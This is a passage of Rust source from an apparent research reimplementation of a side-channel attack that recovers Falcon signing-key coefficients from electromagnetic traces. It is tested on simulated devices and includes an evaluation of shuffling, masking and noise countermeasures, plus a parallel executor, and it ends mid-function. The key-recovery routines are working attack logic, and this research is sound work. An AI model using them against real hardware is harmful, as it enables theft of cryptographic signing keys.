/// mantissa halves to model the normalisation carry exactly.
///
/// Note: this single-step CPA mirrors the paper's Figure 4(b) target but
/// can alias between exponent guesses when the known exponents span a
/// narrow range (see [`recover_sign_exponent`], which the full pipeline
/// uses instead).
pub fn recover_exponent<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    c_hi: u64,
    d_lo: u64,
) -> ComponentResult {
    let block = fetch_block(src, target);
    attack_metrics().correlations.add(2046);
    let knowns: [Vec<KnownOperand>; 2] =
        [0, 1].map(|occ| block.known_column(occ).iter().map(|&kb| KnownOperand::new(kb)).collect());
    let samples: [&[f32]; 2] = [0, 1].map(|occ| block.sample_column(occ, StepKind::ExponentAdd));
    let guesses: Vec<u64> = (1..2047).collect();
    let sample_sums: [SampleSums; 2] = [0, 1].map(|occ| SampleSums::new(samples[occ]));
    let scores = exec::map_with(&guesses, Vec::new, |scratch: &mut Vec<f64>, &ef| {
        let mut sums = PearsonSums::default();
        for (occ, kn) in knowns.iter().enumerate() {
            scratch.clear();
            scratch.extend(kn.iter().map(|k| hyp_exponent_with_carry(ef as u32, c_hi, d_lo, k)));
            sums.push_column_reusing(scratch, samples[occ], &sample_sums[occ]);
        }
        sums.corr()
    });
    let scored: Vec<(u64, f64)> = guesses.into_iter().zip(scores).collect();
    top_two(&scored)
}

/// One mantissa half via the mode the config selects: incremental
/// extend-and-prune, or the paper's monolithic full-width enumeration.
fn recover_half(
    block: &TargetBlock<'_>,
    half: SecretHalf,
    other_half: Option<u64>,
    cfg: &AttackConfig,
) -> ComponentResult {
    if cfg.monolithic_keep > 0 {
        let full_width = match half {
            SecretHalf::Low => 25,
            SecretHalf::High => 28,
        };
        recover_mantissa_half_monolithic_block(
            block,
            half,
            other_half,
            full_width,
            0,
            cfg.monolithic_keep,
        )
    } else {
        recover_mantissa_half_block(block, half, other_half, cfg)
    }
}

/// Recovers one full `FFT(f)` coefficient by divide-and-conquer.
///
/// The target's columns are fetched from the source **once** and shared
/// by every component recovery, so a streamed source pays one pass of
/// I/O per coefficient regardless of how many refinement rounds run.
/// Panics on source failure; [`try_recover_coefficient`] is the
/// fallible variant.
pub fn recover_coefficient<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    cfg: &AttackConfig,
) -> CoefficientResult {
    recover_coefficient_block(&fetch_block(src, target), cfg)
}

/// Fallible variant of [`recover_coefficient`] for streamed sources.
///
/// # Errors
///
/// Propagates the source's [`target_block`](ColumnSource::target_block)
/// failure.
pub fn try_recover_coefficient<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    cfg: &AttackConfig,
) -> Result<CoefficientResult> {
    Ok(recover_coefficient_block(&src.target_block(target)?, cfg))
}

/// Block-level core of [`recover_coefficient`].
pub fn recover_coefficient_block(block: &TargetBlock<'_>, cfg: &AttackConfig) -> CoefficientResult {
    let _span = obs::span("attack.coefficient");
    // Alternating refinement: each half's *extend* targets are
    // independent of the other half, but the *prune* additions mix the
    // halves (`zu = C·A + carries(D)`), so the halves are re-pruned with
    // each other's latest estimate until the pair is stable. This also
    // resolves the degenerate all-zero low half, which is invisible to
    // its own products and only betrayed by the cross-half accumulation.
    let mut mant_lo = recover_half(block, SecretHalf::Low, None, cfg);
    let mut mant_hi = recover_half(block, SecretHalf::High, Some(mant_lo.value), cfg);
    for _ in 0..2 {
        let lo = recover_half(block, SecretHalf::Low, Some(mant_hi.value), cfg);
        let lo_stable = lo.value == mant_lo.value;
        mant_lo = lo;
        if lo_stable {
            // Fixed point: the high half was computed from this very low
            // half, so re-running it would reproduce itself.
            break;
        }
        let hi = recover_half(block, SecretHalf::High, Some(mant_lo.value), cfg);
        let hi_stable = hi.value == mant_hi.value;
        mant_hi = hi;
        if hi_stable {
            break;
        }
    }
    let (sign, exponent) = recover_sign_exponent_block(block, mant_hi.value, mant_lo.value);
    let bits = assemble_coefficient(
        sign.value as u32,
        exponent.value as u32,
        mant_hi.value,
        mant_lo.value,
    );
    CoefficientResult { bits, sign, exponent, mant_lo, mant_hi }
}

/// Recovers every targeted coefficient of the source, fetching each
/// target's columns once.
pub fn recover_all<S: ColumnSource + ?Sized>(
    src: &S,
    cfg: &AttackConfig,
) -> Vec<CoefficientResult> {
    src.targets()
        .to_vec()
        .into_iter()
        .map(|t| recover_coefficient_block(&fetch_block(src, t), cfg))
        .collect()
}

/// Recovers every targeted coefficient with a confidence-guided retry:
/// coefficients whose exact-model confidence falls visibly below the
/// cohort's median — the attacker-side signature of a wrong beam
/// decision — are re-attacked with a wider beam and finer extend steps.
///
/// Returns the results together with each coefficient's final
/// confidence.
pub fn recover_all_verified<S: ColumnSource + ?Sized>(
    src: &S,
    cfg: &AttackConfig,
) -> Vec<(CoefficientResult, f64)> {
    let targets = src.targets().to_vec();
    let mut out: Vec<(CoefficientResult, f64)> = targets
        .iter()
        .map(|&t| {
            let block = fetch_block(src, t);
            let r = recover_coefficient_block(&block, cfg);
            let conf = coefficient_confidence_block(&block, r.bits);
            (r, conf)
        })
        .collect();
    let mut confs: Vec<f64> = out.iter().map(|(_, c)| *c).collect();
    confs.sort_by(f64::total_cmp);
    let median = confs[confs.len() / 2];
    // Robust spread estimate: correct recoveries cluster tightly at the
    // channel's SNR ceiling, so anything well below the cohort is
    // suspect.
    let mut devs: Vec<f64> = confs.iter().map(|c| (c - median).abs()).collect();
    devs.sort_by(f64::total_cmp);
    let mad = devs[devs.len() / 2];
    let cutoff = median - (5.0 * mad).max(0.01);
    let wide = AttackConfig {
        step_bits: cfg.step_bits.saturating_sub(2).max(4),
        beam_width: cfg.beam_width * 8,
        monolithic_keep: cfg.monolithic_keep.saturating_mul(8),
    };
    for (i, &t) in targets.iter().enumerate() {
        if out[i].1 >= cutoff {
            continue;
        }
        let block = fetch_block(src, t);
        let r = recover_coefficient_block(&block, &wide);
        let conf = coefficient_confidence_block(&block, r.bits);
        if conf > out[i].1 {
            out[i] = (r, conf);
        }
    }
    out
}

/// The paper's monolithic window attack: enumerates all `2^width`
/// guesses of the low window of a mantissa half (`rest` supplies the
/// remaining high bits when `width` is scaled down; zero for the full
/// 25/27-bit runs) and returns the correlation matrices of the extend
/// step (multiplication — exhibits false positives) and the prune step
/// (addition — eliminates them), with one time column per micro-op of
/// the first-occurrence multiplication.
pub fn monolithic_correlations<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    half: SecretHalf,
    width: u32,
    rest: u64,
    d_lo_for_high: u64,
) -> (Vec<u64>, CorrMatrix, CorrMatrix) {
    let block = fetch_block(src, target);
    let guesses: Vec<u64> = (0..(1u64 << width)).map(|g| (rest << width) | g).collect();
    let mut extend = CorrMatrix::new(guesses.len(), StepKind::COUNT);
    let mut prune = CorrMatrix::new(guesses.len(), StepKind::COUNT);
    let full_width = match half {
        SecretHalf::Low => 25,
        SecretHalf::High => 28,
    };
    let wmask = (1u64 << width) - 1;
    for trace in 0..block.traces() {
        for occ in 0..2 {
            let k = KnownOperand::new(block.known(trace, occ));
            let window: Vec<f32> =
                StepKind::ALL.iter().map(|&s| block.sample(trace, occ, s)).collect();
            // Extend hypothesis: the product's low `width` bits, which
            // depend only on the guessed window — this is where the
            // paper's shift-family false positives live (for the full
            // 25/27-bit width it is the complete product word).
            let ext_hyps =
                exec::map(&guesses, |&g| hyp_partial_product(g & wmask, width, k.lo, full_width));
            let prune_hyps = exec::map(&guesses, |&g| match half {
                SecretHalf::Low => hyp_add_lo(g, &k),
                SecretHalf::High => hyp_add_hi(g, d_lo_for_high, &k),
            });
            extend.update(&ext_hyps, &window);
            prune.update(&prune_hyps, &window);
        }
    }
    (guesses, extend, prune)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acquire::Dataset;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn bench(noise: f64, seed: &[u8]) -> Device {
        let mut rng = Prng::from_seed(seed);
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, noise),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        Device::new(kp.into_parts().0, chain, b"attack bench")
    }

    fn ground_truth(dev: &Device, target: usize) -> u64 {
        dev.signing_key().f_fft()[target].to_bits()
    }

    #[test]
    fn recovers_coefficient_from_noiseless_traces() {
        let mut dev = bench(0.0, b"attack key 1");
        let truth = ground_truth(&dev, 1);
        let mut mrng = Prng::from_seed(b"attack msgs");
        let ds = Dataset::collect(&mut dev, &[1], 48, &mut mrng);
        let cfg = AttackConfig::default();
        let r = recover_coefficient(&ds, 1, &cfg);
        assert_eq!(
            r.bits,
            truth,
            "recovered {:#018x}, truth {:#018x} (lo {:#x}/{:#x} hi {:#x} exp {:#x} sign {})",
            r.bits,
            truth,
            r.mant_lo.value,
            (falcon_fpr::Fpr::from_bits(truth).mantissa_bits() | (1 << 52)) & 0x1FF_FFFF,
            r.mant_hi.value,
            r.exponent.value,
            r.sign.value,
        );
    }

    #[test]
    fn recovers_coefficient_under_noise() {
        let mut dev = bench(2.0, b"attack key 2");
        let truth = ground_truth(&dev, 3);
        let mut mrng = Prng::from_seed(b"attack msgs noisy");
        let ds = Dataset::collect(&mut dev, &[3], 600, &mut mrng);
        let cfg = AttackConfig::default();
        let r = recover_coefficient(&ds, 3, &cfg);
        assert_eq!(r.bits, truth, "recovered {:#018x}, truth {:#018x}", r.bits, truth);
        assert!(r.mant_lo.corr > r.mant_lo.runner_up);
    }

    /// Builds a synthetic dataset whose samples are the *exact* leakage
    /// model values for a planted secret — isolating the recovery logic
    /// from the device/acquisition plumbing.
    fn synthetic_dataset(secret: u64, knowns: &[u64]) -> Dataset {
        use crate::model::step_words;
        let n = 8usize; // layout degree; target index 0
        let traces = knowns.len();
        let mut ks = Vec::with_capacity(traces * 2);
        let mut points = Vec::with_capacity(traces * crate::acquire::POINTS_PER_TARGET);
        for (i, &k) in knowns.iter().enumerate() {
            // Two occurrences with different known operands.
            let k2 = knowns[(i + traces / 2) % traces].rotate_left(1) | 1 << 52;
            for kb in [k, k2] {
                ks.push(kb);
                let words = step_words(secret, &crate::model::KnownOperand::new(kb));
                for w in words {
                    points.push(w.count_ones() as f32);
                }
            }
        }
        Dataset::from_raw_parts(n, vec![0], traces, ks, points)
    }

    /// One planted-coefficient recovery case: exact-model samples for a
    /// random secret, random known operands.
    fn planted_case(mant: u64, exp: u64, sign: u64, seed: u64) {
        let secret = (sign << 63) | (exp << 52) | mant;
        // Plausible known operands: normal fprs with varied mantissas
        // and a narrow exponent band (like real FFT(c) values).
        let mut state = seed | 1;
        let mut next = || {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            state
        };
        let knowns: Vec<u64> = (0..128)
            .map(|_| {
                let m = next() & ((1u64 << 52) - 1);
                let e = 1030 + (next() % 8);
                let s = next() & (1 << 63);
                s | (e << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let r = recover_coefficient(&ds, 0, &AttackConfig::default());
        assert_eq!(r.bits, secret, "planted {:#018x}, recovered {:#018x}", secret, r.bits);
    }

    #[test]
    fn recovers_random_planted_coefficients() {
        // Regression (former property-test shrink): near-degenerate
        // mantissa with a low biased exponent.
        planted_case(3367164766440640, 794, 1, 3744802627543998926);
        // Deterministic random cases (splitmix64 stream).
        let mut st = 0x706C616E74u64;
        let mut next = || {
            st = st.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = st;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        for _ in 0..9 {
            let mant = next() & ((1u64 << 52) - 1);
            let exp = 1 + next() % 2046;
            let sign = next() & 1;
            let seed = next();
            planted_case(mant, exp, sign, seed);
        }
    }

    #[test]
    fn recovers_trailing_zero_mantissa() {
        // Regression: the all-zero low window has a constant hypothesis;
        // the beam must keep it alive (it once pruned such secrets).
        let secret = 0x4030_0000_0F00_0000u64; // many trailing zeros
        let knowns: Vec<u64> = (0..40)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let r = recover_coefficient(&ds, 0, &AttackConfig::default());
        assert_eq!(r.bits, secret, "recovered {:#018x}", r.bits);
    }

    #[test]
    fn monolithic_extend_has_false_positives_prune_resolves() {
        let mut dev = bench(1.0, b"attack key 3");
        let truth = ground_truth(&dev, 0);
        let tm = falcon_fpr::Fpr::from_bits(truth).mantissa_bits() | (1 << 52);
        let d_true = tm & 0x1FF_FFFF;
        let width = 8u32;
        let rest = d_true >> width;
        let mut mrng = Prng::from_seed(b"mono msgs");
        let ds = Dataset::collect(&mut dev, &[0], 400, &mut mrng);
        let (guesses, extend, prune) =
            monolithic_correlations(&ds, 0, SecretHalf::Low, width, rest, 0);
        let correct_idx = (d_true & ((1 << width) - 1)) as usize;
        assert_eq!(guesses[correct_idx], d_true);
        // Prune: the correct candidate wins on the addition step.
        let prune_rank = prune.ranking();
        assert_eq!(prune_rank[0].0, correct_idx, "prune must single out the true mantissa");
        // Extend: the multiplication step correlates for the correct
        // guess too, but with close companions (shift family).
        let (s_ext, c_ext) = extend.peak(correct_idx);
        assert!(c_ext > 0.2, "extend peak too weak: {c_ext} at {s_ext}");
    }

    /// Truth mantissa halves of a planted secret, as the attack splits
    /// them.
    fn truth_halves(secret: u64) -> (u64, u64) {
        let m = falcon_fpr::Fpr::from_bits(secret).mantissa_bits() | (1 << 52);
        (m & 0x1FF_FFFF, m >> 25)
    }

    #[test]
    fn monolithic_recovery_matches_incremental_on_windows() {
        // Windowed monolithic recovery (the same machinery as the
        // full-width paper mode, parameterised down so the test runs in
        // milliseconds) must land on the exact same half values as the
        // incremental beam.
        let secret = 0x4013_5A7E_29C4_D1B3u64;
        let knowns: Vec<u64> = (0..64)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        let width = 10u32;
        let lo = recover_mantissa_half_monolithic(
            &ds,
            0,
            SecretHalf::Low,
            Some(c_hi),
            width,
            d_lo >> width,
            32,
        );
        assert_eq!(lo.value, d_lo, "monolithic low {:#x}, truth {:#x}", lo.value, d_lo);
        assert!(lo.corr > lo.runner_up);
        let hi = recover_mantissa_half_monolithic(
            &ds,
            0,
            SecretHalf::High,
            Some(d_lo),
            width,
            c_hi >> width,
            32,
        );
        assert_eq!(hi.value, c_hi, "monolithic high {:#x}, truth {:#x}", hi.value, c_hi);
    }

    #[test]
    fn monolithic_keeps_all_zero_window_alive() {
        // The all-zero window is unfalsifiable by the extend score; the
        // monolithic path must protect it just like the beam does.
        let secret = (1027u64 << 52) | (0x7F << 30); // low 25 mantissa bits zero
        let knowns: Vec<u64> = (0..40)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x2545_F491_4F6C_DD1D) & ((1u64 << 52) - 1);
                (1030u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        assert_eq!(d_lo, 0, "test premise: degenerate low half");
        let width = 8u32;
        let lo =
            recover_mantissa_half_monolithic(&ds, 0, SecretHalf::Low, Some(c_hi), width, 0, 16);
        assert_eq!(lo.value, 0, "monolithic low {:#x}", lo.value);
    }

    #[test]
    #[ignore = "paper-scale 2^25 enumeration: minutes on one core; run explicitly"]
    fn monolithic_full_width_low_half() {
        // The real thing: the full 2^25 one-shot enumeration of the low
        // mantissa half, as a campaign would run it with
        // `monolithic_keep` set.
        let secret = 0x4013_5A7E_29C4_D1B3u64;
        let knowns: Vec<u64> = (0..16)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        let lo = recover_mantissa_half_monolithic(&ds, 0, SecretHalf::Low, Some(c_hi), 25, 0, 64);
        assert_eq!(lo.value, d_lo, "monolithic low {:#x}, truth {:#x}", lo.value, d_lo);
    }
}
