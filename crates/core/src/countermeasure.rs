//! Countermeasure evaluation (paper §V.B).
//!
//! The paper recommends hiding and masking. This module measures how the
//! two hiding-style defences modelled by the simulator — per-execution
//! shuffling of the coefficient processing order, and added noise —
//! degrade the attack: the drop in the correct guess's correlation and
//! the growth in traces-to-disclosure.

use crate::acquire::Dataset;
use crate::attack::{recover_coefficient, AttackConfig};
use crate::confidence::traces_to_disclosure;
use crate::cpa::pearson_evolution;
use crate::model::{hyp_sign, KnownOperand};
use falcon_emsim::{Device, StepKind};
use falcon_sig::rng::Prng;

/// Outcome of attacking one coefficient under a given device
/// configuration.
#[derive(Debug, Clone, PartialEq)]
pub struct DefenceOutcome {
    /// Did the full coefficient recovery return the true value?
    pub recovered: bool,
    /// Correlation of the correct sign guess after all traces.
    pub sign_corr: f64,
    /// Traces needed for the sign leak at 99.99 % (None = never stable).
    pub sign_disclosure: Option<usize>,
}

/// Attacks `target` with `n_traces` captures from `device` and reports
/// the outcome against the ground truth held by the device.
pub fn evaluate_device(
    device: &mut Device,
    target: usize,
    n_traces: usize,
    msg_rng: &mut Prng,
    cfg: &AttackConfig,
) -> DefenceOutcome {
    let truth = device.signing_key().f_fft()[target].to_bits();
    let ds = Dataset::collect(device, &[target], n_traces, msg_rng);
    let result = recover_coefficient(&ds, target, cfg);

    // Sign-leak evolution with the true sign hypothesis (occurrence 0).
    let true_sign = (truth >> 63) as u32;
    let knowns = ds.known_column(target, 0);
    let samples = ds.sample_column(target, 0, StepKind::SignXor);
    let hyps: Vec<f64> =
        knowns.iter().map(|&k| hyp_sign(true_sign, &KnownOperand::new(k))).collect();
    let evo = pearson_evolution(&hyps, samples);
    DefenceOutcome {
        recovered: result.bits == truth,
        sign_corr: evo.last().copied().unwrap_or(0.0),
        sign_disclosure: traces_to_disclosure(&evo),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{CountermeasureConfig, LeakageModel, MeasurementChain, Scope};
    use falcon_sig::{KeyPair, LogN};

    fn make_device(seed: &[u8], cm: CountermeasureConfig) -> Device {
        let mut rng = Prng::from_seed(seed);
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        Device::new(kp.into_parts().0, chain, b"cm bench").with_countermeasures(cm)
    }

    #[test]
    fn baseline_succeeds_where_shuffling_defeats() {
        let cfg = AttackConfig::default();
        let mut msgs = Prng::from_seed(b"cm msgs");
        let mut base = make_device(b"cm key", CountermeasureConfig::default());
        let out = evaluate_device(&mut base, 2, 400, &mut msgs, &cfg);
        assert!(out.recovered, "baseline attack should succeed");
        assert!(out.sign_disclosure.is_some());

        let mut msgs2 = Prng::from_seed(b"cm msgs");
        let mut shuffled = make_device(
            b"cm key",
            CountermeasureConfig { shuffle: true, extra_noise_sigma: 0.0, masking: false },
        );
        let out2 = evaluate_device(&mut shuffled, 2, 400, &mut msgs2, &cfg);
        // With n/2 = 4 coefficients shuffled, the aligned-sample
        // assumption breaks; correlation collapses.
        assert!(
            out2.sign_corr.abs() < out.sign_corr.abs(),
            "shuffling should reduce correlation ({} vs {})",
            out2.sign_corr,
            out.sign_corr
        );
    }

    #[test]
    fn masking_defeats_first_order_dema() {
        let cfg = AttackConfig::default();
        let mut msgs = Prng::from_seed(b"mask msgs");
        let mut base = make_device(b"mask key", CountermeasureConfig::default());
        let out = evaluate_device(&mut base, 1, 400, &mut msgs, &cfg);
        assert!(out.recovered, "baseline must succeed for the contrast to mean anything");

        let mut msgs2 = Prng::from_seed(b"mask msgs");
        let mut masked = make_device(
            b"mask key",
            CountermeasureConfig { shuffle: false, extra_noise_sigma: 0.0, masking: true },
        );
        let out2 = evaluate_device(&mut masked, 1, 400, &mut msgs2, &cfg);
        // Every observed multiplication now involves a fresh random
        // share: the unshared secret never appears in any intermediate,
        // so neither the sign leak nor coefficient recovery survive.
        assert!(!out2.recovered, "masked device must not yield the coefficient");
        assert!(
            out2.sign_corr.abs() < out.sign_corr.abs() / 2.0,
            "masking should collapse the sign correlation ({} vs {})",
            out2.sign_corr,
            out.sign_corr
        );
    }

    #[test]
    fn extra_noise_increases_disclosure_traces() {
        let cfg = AttackConfig::default();
        let mut msgs = Prng::from_seed(b"noise msgs");
        let mut quiet = make_device(b"noise key", CountermeasureConfig::default());
        let base = evaluate_device(&mut quiet, 1, 500, &mut msgs, &cfg);

        let mut msgs2 = Prng::from_seed(b"noise msgs");
        let mut loud = make_device(
            b"noise key",
            CountermeasureConfig { shuffle: false, extra_noise_sigma: 6.0, masking: false },
        );
        let noisy = evaluate_device(&mut loud, 1, 500, &mut msgs2, &cfg);
        match (base.sign_disclosure, noisy.sign_disclosure) {
            (Some(b), Some(n)) => assert!(n > b, "noise should slow disclosure ({b} vs {n})"),
            (Some(_), None) => {} // noise pushed it beyond the budget: also fine
            other => panic!("unexpected disclosure outcomes: {other:?}"),
        }
    }
}
