//! Shared deterministic executor for the attacker-side data plane.
//!
//! Every parallel loop in this crate — candidate scoring in the
//! extend-and-prune attack, the per-trace `FFT(c)` recomputation during
//! acquisition, the per-trace screening gates, the NTT guess sweep —
//! runs through this one std-only executor instead of growing its own
//! `thread::scope` fan-out. The design goals, in order:
//!
//! 1. **Bit-identical results at any thread count.** Work is split into
//!    fixed-size chunks addressed by a shared atomic index; each chunk's
//!    results are reassembled strictly in chunk order, so neither the
//!    thread count nor the OS scheduler can reorder a single
//!    floating-point operation relative to the serial execution of the
//!    same chunks.
//! 2. **No `R: Default + Clone` bound.** Results travel back through a
//!    channel as `(chunk index, Vec<R>)` pairs rather than being written
//!    into a pre-filled output buffer, so plain data types need no
//!    dummy-value constructor (the old `attack::parallel_map` hack).
//! 3. **Reproducible benches.** The worker count is overridable — by the
//!    `FALCON_DEMA_THREADS` environment variable for whole-process runs
//!    (CI's determinism matrix leg) and by [`set_threads`] for in-process
//!    sweeps (the determinism test runs the same campaign at 1, 2 and N
//!    threads and asserts identical keys and checkpoints).
//!
//! The executor handles only attacker-known values (public `FFT(c)`
//! operands, captured samples, candidate guesses), so it carries no
//! `// ct: secret` regions; the constant-time gates are unaffected by
//! scheduling.

use crate::error::{Error, Result};
use crate::obs;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::mpsc;
use std::sync::{Arc, OnceLock};

/// Below this many items a map stays on the calling thread: the spawn
/// plus channel round-trip costs more than the work.
const PAR_THRESHOLD: usize = 256;

/// Smallest chunk handed to a worker; keeps the atomic index and the
/// per-chunk `Vec` overhead invisible next to the chunk's own work.
const MIN_CHUNK: usize = 32;

/// In-process worker-count override; `0` means "not set" (fall back to
/// the environment, then the hardware).
static THREAD_OVERRIDE: AtomicUsize = AtomicUsize::new(0);

/// Metric handles for the executor, resolved once.
struct ExecMetrics {
    /// Maps that fanned out across worker threads.
    fanout: Arc<obs::Counter>,
    /// Maps that stayed on the calling thread.
    serial: Arc<obs::Counter>,
    /// Worker threads used by the most recent fan-out.
    threads: Arc<obs::Gauge>,
    /// Chunks dispatched across all fan-outs.
    chunks: Arc<obs::Counter>,
    /// Worker panics captured (and surfaced as typed errors).
    panics: Arc<obs::Counter>,
}

fn exec_metrics() -> &'static ExecMetrics {
    static M: OnceLock<ExecMetrics> = OnceLock::new();
    M.get_or_init(|| ExecMetrics {
        fanout: obs::counter("exec.fanout"),
        serial: obs::counter("exec.serial"),
        threads: obs::gauge("exec.threads"),
        chunks: obs::counter("exec.chunks"),
        panics: obs::counter("exec.panics"),
    })
}

/// Converts a captured panic payload into the typed executor error.
pub(crate) fn panicked(chunk: usize, payload: Box<dyn std::any::Any + Send>) -> Error {
    exec_metrics().panics.incr();
    let payload = payload
        .downcast_ref::<&str>()
        .map(|s| (*s).to_string())
        .or_else(|| payload.downcast_ref::<String>().cloned())
        .unwrap_or_else(|| "non-string panic payload".to_string());
    Error::WorkerPanicked { chunk, payload }
}

/// The `FALCON_DEMA_THREADS` value at first use (cached: the executor
/// sits on hot paths and `std::env::var` takes a lock).
fn env_threads() -> Option<usize> {
    static ENV: OnceLock<Option<usize>> = OnceLock::new();
    // ct: allow(opt-in worker-count knob, read once and cached)
    *ENV.get_or_init(|| {
        std::env::var("FALCON_DEMA_THREADS").ok().and_then(|v| v.trim().parse::<usize>().ok())
    })
}

/// The worker count the executor will use for the next fan-out:
/// [`set_threads`] override, else `FALCON_DEMA_THREADS`, else
/// [`std::thread::available_parallelism`]. Never zero.
pub fn threads() -> usize {
    let explicit = THREAD_OVERRIDE.load(Ordering::Relaxed);
    if explicit > 0 {
        return explicit;
    }
    if let Some(env) = env_threads() {
        if env > 0 {
            return env;
        }
    }
    std::thread::available_parallelism().map(|v| v.get()).unwrap_or(1)
}

/// Overrides the worker count for this process (`0` clears the override
/// and returns to the environment/hardware default). Intended for
/// reproducible benches and the determinism tests; takes precedence over
/// `FALCON_DEMA_THREADS`.
pub fn set_threads(n: usize) {
    THREAD_OVERRIDE.store(n, Ordering::Relaxed);
}

/// Maps `f` over `items`, preserving order, on up to [`threads`] workers.
///
/// The output is bit-identical to `items.iter().map(f).collect()` for
/// any deterministic `f`, at every thread count.
///
/// # Panics
///
/// Re-raises a panic from `f` on the calling thread (see
/// [`try_map`] for the non-panicking form supervisors retry on).
pub fn map<T, R, F>(items: &[T], f: F) -> Vec<R>
where
    T: Sync,
    R: Send,
    F: Fn(&T) -> R + Sync,
{
    map_with(items, || (), move |(), item| f(item))
}

/// Like [`map`], but each worker first builds a private scratch state
/// with `make` and threads it through its calls — the allocation-free
/// pattern behind the attack's hypothesis buffers (one scratch `Vec` per
/// worker for the whole sweep instead of one per candidate).
///
/// Determinism contract: `f` must not let results depend on the scratch
/// *history* (treat it as an uninitialised buffer each call); under that
/// contract the output is bit-identical at every thread count.
///
/// # Panics
///
/// Re-raises a panic from `f` on the calling thread. The panic is first
/// *captured* in the worker (so sibling workers stop cleanly and the
/// scope join never aborts the process) and then resumed here;
/// [`try_map_with`] returns it as a typed
/// [`Error::WorkerPanicked`] instead.
pub fn map_with<T, S, R, M, F>(items: &[T], make: M, f: F) -> Vec<R>
where
    T: Sync,
    R: Send,
    M: Fn() -> S + Sync,
    F: Fn(&mut S, &T) -> R + Sync,
{
    match try_map_with(items, make, f) {
        Ok(out) => out,
        Err(Error::WorkerPanicked { chunk, payload }) => std::panic::resume_unwind(Box::new(
            format!("exec worker panicked on chunk {chunk}: {payload}"),
        )),
        Err(e) => unreachable!("try_map_with only fails on worker panics: {e}"),
    }
}

/// Panic-isolating [`map`]: a panic in `f` is captured and returned as
/// [`Error::WorkerPanicked`] instead of unwinding through the caller,
/// so a supervisor can retry the whole map.
///
/// # Errors
///
/// Returns [`Error::WorkerPanicked`] naming the first (lowest-index)
/// panicked work unit; remaining chunks are abandoned promptly.
pub fn try_map<T, R, F>(items: &[T], f: F) -> Result<Vec<R>>
where
    T: Sync,
    R: Send,
    F: Fn(&T) -> R + Sync,
{
    try_map_with(items, || (), move |(), item| f(item))
}

/// Panic-isolating [`map_with`]; see [`try_map`].
///
/// # Errors
///
/// Returns [`Error::WorkerPanicked`] naming the first (lowest-index)
/// panicked work unit. `chunk` is the parallel chunk index, or the item
/// index when the map ran serially (small input or one worker).
pub fn try_map_with<T, S, R, M, F>(items: &[T], make: M, f: F) -> Result<Vec<R>>
where
    T: Sync,
    R: Send,
    M: Fn() -> S + Sync,
    F: Fn(&mut S, &T) -> R + Sync,
{
    let workers = threads();
    let m = exec_metrics();
    if workers == 1 || items.len() < PAR_THRESHOLD {
        m.serial.incr();
        let mut state = make();
        let mut out = Vec::with_capacity(items.len());
        for (i, item) in items.iter().enumerate() {
            // The scratch state is discarded wholesale on a panic, so
            // observing it half-updated is impossible.
            match catch_unwind(AssertUnwindSafe(|| f(&mut state, item))) {
                Ok(r) => out.push(r),
                Err(p) => return Err(panicked(i, p)),
            }
        }
        return Ok(out);
    }
    // Chunks a few times smaller than a fair share give the atomic index
    // something to load-balance with; MIN_CHUNK bounds the bookkeeping.
    let chunk = (items.len().div_ceil(4 * workers)).max(MIN_CHUNK);
    let n_chunks = items.len().div_ceil(chunk);
    let workers = workers.min(n_chunks);
    m.fanout.incr();
    m.threads.set(workers as f64);
    m.chunks.add(n_chunks as u64);
    let next = AtomicUsize::new(0);
    let failed = AtomicBool::new(false);
    type ChunkResult<R> = (usize, std::result::Result<Vec<R>, Box<dyn std::any::Any + Send>>);
    let (tx, rx) = mpsc::channel::<ChunkResult<R>>();
    std::thread::scope(|scope| {
        for _ in 0..workers {
            let tx = tx.clone();
            let next = &next;
            let failed = &failed;
            let f = &f;
            let make = &make;
            scope.spawn(move || {
                let mut state = make();
                loop {
                    if failed.load(Ordering::Relaxed) {
                        break;
                    }
                    let c = next.fetch_add(1, Ordering::Relaxed);
                    if c >= n_chunks {
                        break;
                    }
                    let lo = c * chunk;
                    let hi = (lo + chunk).min(items.len());
                    // A panicked chunk poisons only this worker's scratch
                    // state, which dies with the worker: the panic stops
                    // this worker's loop, so the state is never reused.
                    let out = catch_unwind(AssertUnwindSafe(|| {
